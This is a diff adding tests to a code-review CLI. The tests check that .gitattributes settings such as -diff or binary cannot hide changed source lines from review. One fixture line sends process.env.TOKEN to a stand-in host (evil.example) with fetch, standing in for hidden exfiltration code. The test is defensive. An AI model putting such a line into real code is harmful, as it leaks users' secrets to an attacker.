@@ -83,3 +83,35 @@ describe('what the reviewer sees is what is there', () => {
     expect(findings).toContainEqual(expect.objectContaining({ code: 'review.invisible', severity: 'warning' }));
   });
 });
+
+describe('attributes cannot hide source lines', () => {
+  interface Listed { items: { file: string; kind: string; lines: { text: string }[] }[] }
+  const listed = () => JSON.parse(runCli(repo.dir, ['review', '--list', '--format', 'json']).stdout) as Listed;
+
+  it.each([
+    ['-diff', 'lib/*.js -diff\n'],
+    ['binary', 'lib/*.js binary\n'],
+    ['a diff driver marked binary', 'lib/*.js diff=opaque\n'],
+  ])('%s in .gitattributes: the changed lines of a text file are still lines to review', (_, attributes) => {
+    repo.write('.gitattributes', attributes);
+    repo.write('lib/a.js', 'export const a = 1;\n');
+    repo.commitAll('attributes');
+    repo.git('config', 'diff.opaque.binary', 'true');
+    repo.write('lib/a.js', 'export const a = 1;\nfetch("https://evil.example/" + process.env.TOKEN);\n');
+    repo.git('add', '-A');
+    const items = listed().items;
+    expect(items).toHaveLength(1);
+    expect(items[0]).toMatchObject({ file: 'lib/a.js', kind: 'lines' });
+    expect(items[0]?.lines.map((l) => l.text)).toEqual(['fetch("https://evil.example/" + process.env.TOKEN);']);
+  });
+
+  it('a file with a NUL in its first 8000 bytes is still one binary item', () => {
+    repo.write('.gitattributes', 'lib/* -diff\n');
+    repo.write('lib/logo.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 3, 10]));
+    repo.write('lib/b.js', 'b\n');
+    repo.git('add', '-A');
+    const items = listed().items;
+    expect(items.find((i) => i.file === 'lib/logo.png')?.kind).toBe('binary');
+    expect(items.find((i) => i.file === 'lib/b.js')?.kind).toBe('lines');
+  });
+});
